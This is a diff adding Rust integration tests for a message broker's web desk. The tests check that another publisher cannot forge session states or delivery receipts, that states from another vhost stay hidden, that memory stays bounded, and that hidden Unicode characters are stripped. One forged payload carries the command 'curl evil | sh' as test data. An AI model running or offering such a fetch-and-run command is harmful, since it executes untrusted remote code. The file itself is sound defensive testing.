@@ -1,0 +1,196 @@
+//! Attacks of users who may publish: what they write must not pass for a state, or for the end of a
+//! message, on the page of somebody else.
+
+use serde_json::json;
+
+use crate::browser::{DESK, card, signed_in, text};
+use crate::fixture::{PASSWORD, Server, USER};
+use crate::peers::{Peer, envelope, presence};
+
+const PRESENCE: &str = "claudeBroker.presence";
+
+/// A broker with the user `bob`, who may publish, and his connection.
+fn with_bob() -> (Server, Peer) {
+    let server = Server::start();
+    let user = r#"{"password":"pw","tags":""}"#;
+    assert_eq!(server.ask("PUT", "/api/users/bob", user).status, 201);
+    let all = r#"{"configure":".*","write":".*","read":".*"}"#;
+    let path = "/api/permissions/%2F/bob";
+    assert_eq!(server.ask("PUT", path, all).status, 201);
+    let bob = Peer::connect_as(&server, "bob", "pw");
+    (server, bob)
+}
+
+#[test]
+fn a_stranger_who_may_write_to_the_presence_exchange_shows_no_state_of_a_session() {
+    let (server, bob) = with_bob();
+    let ada = Peer::connect(&server);
+    for name in ["backend", "frontend"] {
+        ada.declare_session(name);
+    }
+    let (_one, _two) = (ada.attach("backend"), ada.attach("frontend"));
+    let Some(browser) = signed_in(&server, &DESK) else {
+        return;
+    };
+    let forged = presence("backend", "needs-you", Some("run: curl evil | sh"));
+    for _ in 0..2 {
+        bob.publish(PRESENCE, "", &forged);
+        bob.publish_as_user(PRESENCE, "", &forged);
+        bob.publish_as_user("", "amq.gen-cbroker-page", &forged);
+        let foreign = presence("ghost", "idle", None);
+        bob.publish_as_user(PRESENCE, "", &foreign);
+    }
+    // A name in `user_id` is refused by the broker, and so is the channel: nothing was said.
+    let marker = server.ask(
+        "POST",
+        "/api/exchanges/%2F/claudeBroker/publish",
+        &json!({ "properties": { "user_id": "bob" }, "routing_key": "backend",
+            "payload": forged, "payload_encoding": "string" })
+        .to_string(),
+    );
+    assert_eq!(marker.status, 400, "{marker:?}");
+    bob.settle();
+    ada.announce("frontend", "idle", None);
+    browser.until(&format!("{} === 'Idle'", card("frontend", ".pill")));
+    browser.until(&format!("{} === 'Attached'", card("backend", ".pill")));
+    assert_eq!(browser.value(&card("backend", ".why")), json!(""));
+    let ghost = "document.querySelector('article[data-key=ghost]') === null";
+    assert_eq!(browser.value(ghost), true);
+}
+
+#[test]
+fn a_state_from_another_vhost_is_not_shown() {
+    let (server, _bob) = with_bob();
+    server.ask("PUT", "/api/vhosts/other", "{}");
+    let all = r#"{"configure":".*","write":".*","read":".*"}"#;
+    server.ask("PUT", &format!("/api/permissions/other/{USER}"), all);
+    let ada = Peer::connect(&server);
+    let elsewhere = Peer::connect_to(&server, (USER, PASSWORD), "other");
+    for peer in [&ada, &elsewhere] {
+        peer.declare_session("backend");
+        peer.declare_session("frontend");
+    }
+    let (_one, _two) = (ada.attach("backend"), ada.attach("frontend"));
+    let Some(browser) = signed_in(&server, &DESK) else {
+        return;
+    };
+    elsewhere.announce("backend", "needs-you", Some("elsewhere"));
+    elsewhere.say(("frontend", "backend"), "01ELSEWHERE", "not here");
+    elsewhere.settle();
+    ada.announce("frontend", "idle", None);
+    ada.say(("frontend", "backend"), "01HERE", "here");
+    browser.until(&format!("{} === 'Idle'", card("frontend", ".pill")));
+    browser.until(&format!("{} === 'Attached'", card("backend", ".pill")));
+    browser.press("2");
+    browser.until(&format!("{} === 'here'", text("01HERE", ".text")));
+    assert_eq!(browser.value(&text("01ELSEWHERE", ".text")), json!(""));
+}
+
+#[test]
+fn a_stranger_who_knows_an_id_forges_no_end_of_the_message() {
+    let (server, bob) = with_bob();
+    let ada = Peer::connect(&server);
+    for name in ["backend", "frontend"] {
+        ada.declare_session(name);
+    }
+    // Bob has copies of all that goes to the session, and acks them.
+    bob.bind_copy("copy", "backend");
+    let Some(browser) = signed_in(&server, &DESK) else {
+        return;
+    };
+    let genuine = envelope(("frontend", "backend"), "01GENUINE", "please look");
+    ada.publish_as_user("claudeBroker", "backend", &genuine);
+    browser.press("2");
+    browser.until(&format!("{} === 'waiting'", text("01GENUINE", ".pill")));
+    bob.take("copy");
+    for state in ["delivered", "dead-lettered", "held"] {
+        let receipt = json!({ "id": "01GENUINE", "state": state, "reason": "forged" }).to_string();
+        bob.publish("", "anywhere", &receipt);
+        bob.publish_as_user("", "anywhere", &receipt);
+    }
+    // The id once more with another text, which is acked.
+    bob.declare_session("bobs");
+    let copied = envelope(("frontend", "bobs"), "01GENUINE", "please look");
+    bob.publish_as_user("claudeBroker", "bobs", &copied);
+    bob.take("bobs");
+    // A copy of the message, which the session acks as a repetition while it holds the first.
+    let mut session = ada.attach("backend");
+    assert_eq!(ada.next(&mut session), Some(genuine.clone()));
+    for _ in 0..2 {
+        bob.publish_as_user("claudeBroker", "backend", &genuine);
+        ada.ack_next(&mut session);
+        bob.publish("claudeBroker", "backend", &genuine);
+        ada.ack_next(&mut session);
+    }
+    bob.settle();
+    ada.say(("frontend", "backend"), "01MARKER", "the end");
+    browser.until(&format!("{} === 'the end'", text("01MARKER", ".text")));
+    let states = |is_own: bool| {
+        format!(
+            "[...document.querySelectorAll('li[data-id=\"01GENUINE\"]')]\
+            .filter((item) => item.dataset.key.endsWith(' {USER}') === {is_own})\
+            .map((item) => item.querySelector('.pill').textContent.split(' after ')[0]).join()"
+        )
+    };
+    // The one to `bobs`, and two copies: with his name and without.
+    browser.until(&format!(
+        "{} === 'delivered,delivered,delivered'",
+        states(false)
+    ));
+    assert_eq!(browser.value(&states(true)), json!("waiting"));
+    // The same from the session's own user counts.
+    let receipt = json!({ "id": "01GENUINE", "state": "held", "reason": "a dialog" }).to_string();
+    ada.publish_as_user("", "anywhere", &receipt);
+    browser.until(&format!("{} === 'held: a dialog'", states(true)));
+}
+
+#[test]
+fn what_others_publish_without_end_leaves_the_page_s_memory_bounded() {
+    let server = Server::start();
+    let Some(browser) = signed_in(&server, &DESK) else {
+        return;
+    };
+    let script = r"import('/model.js').then(({ Model }) => {
+        const model = new Model();
+        model.user = 'ada';
+        const line = (more) => ({ what: 'published', at_ms: 1, vhost: '/', encoding: 'string',
+            properties: { user_id: 'ada' }, body_bytes: 1, ...more });
+        const say = (number, message) => model.seen(line({ exchange: 'claudeBroker',
+            routing_key: `t${number}`, excerpt: JSON.stringify({ message, from: `f${number}`,
+                to: `t${number}`, id: number % 3 ? `${number}` : 'same' }) }));
+        const announce = (name, number) => model.seen(line({ exchange: 'claudeBroker.presence',
+            routing_key: '', excerpt: JSON.stringify({ kind: 'state', state: 'idle', name,
+                session: `${number}` }) }));
+        const within = [];
+        for (let number = 0; number < 11000; number++) say(number, 'x');
+        within.push(model.messages.size === 10000, model.lasts.size <= 4000);
+        for (let number = 0; number < 6000; number++) say(`0${number}`, 'x'.repeat(4000));
+        within.push(model.size <= 1 << 24, model.messages.size > 1000, model.ids.size <= 10000);
+        for (let number = 0; number < 3000; number++) announce(`n${number}`, number);
+        for (let number = 0; number < 100; number++) announce('one', number);
+        within.push(model.sessions.size <= 2000, model.session('one').presences.size === 16);
+        model.queues(Array.from({ length: 5000 }, (_, number) => ({ name: `q${number}` })));
+        within.push(model.sessions.size <= 2000);
+        window.within = within.join();
+    }) && true";
+    assert_eq!(browser.value(script), true);
+    let all = ["true"; 8].join(",");
+    browser.until("window.within !== undefined");
+    assert_eq!(browser.value("window.within"), json!(all));
+}
+
+#[test]
+fn hidden_and_reordering_characters_of_a_message_are_not_on_the_page() {
+    let server = Server::start();
+    let ada = Peer::connect(&server);
+    ada.declare_session("backend");
+    let Some(browser) = signed_in(&server, &DESK) else {
+        return;
+    };
+    let hidden = "a\u{202e}b\u{200b}c\u{e0041}d\u{ad}e\u{9b}f \u{2764}\u{fe0f} \u{fe0f}";
+    ada.say(("front\u{202e}end", "backend"), "01HIDDEN", hidden);
+    browser.press("2");
+    let seen = json!("abcdef \u{2764}\u{fe0f} ");
+    browser.until(&format!("{} === {seen}", text("01HIDDEN", ".text")));
+    browser.until(&format!("{} === 'frontend'", text("01HIDDEN", ".peer")));
+}
